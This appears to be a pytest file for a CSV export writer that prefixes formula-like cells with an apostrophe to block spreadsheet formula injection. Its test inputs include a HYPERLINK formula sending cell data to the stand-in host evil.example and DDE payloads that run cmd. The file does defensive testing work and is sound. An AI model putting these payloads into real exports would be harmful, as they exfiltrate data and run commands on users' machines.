"""The one CSV writer of every export: a text cell a spreadsheet program would run as a formula is written with a
leading apostrophe (OWASP's advice on CSV injection), a number the program writes stays a number."""

from __future__ import annotations

import csv
import io

import pytest

from domain.csv_text import csv_text

TYPED = ['=HYPERLINK("http://evil.example/?"&A1,"詳細")', "@SUM(1+1)*cmd|' /C calc'!A0", "+cmd|' /C calc'!A0",
         "-2+3", "\t=1+1", "\r=1+1", "＝１＋１", "＋１", "－２＋３", "＠ＳＵＭ（Ａ１）"]


@pytest.mark.parametrize("typed", TYPED)
def test_a_cell_a_spreadsheet_would_run_gets_a_leading_apostrophe(typed: str) -> None:
    rows = list(csv.reader(io.StringIO(csv_text([["見出し", "件数"], [typed, 1]]), newline="")))
    assert rows == [["見出し", "件数"], ["'" + typed, "1"]]


def test_numbers_written_by_the_program_and_ordinary_text_stay_as_they_are() -> None:
    text = csv_text([["氏名", "増減", "人数"], ["山田　太郎", -5, 0], ["1-2-3", 12, 3], ["", 0, 0]])
    assert text == "氏名,増減,人数\r\n山田　太郎,-5,0\r\n1-2-3,12,3\r\n,0,0\r\n"


def test_a_true_or_false_is_no_number() -> None:
    with pytest.raises(TypeError):
        csv_text([[True]])
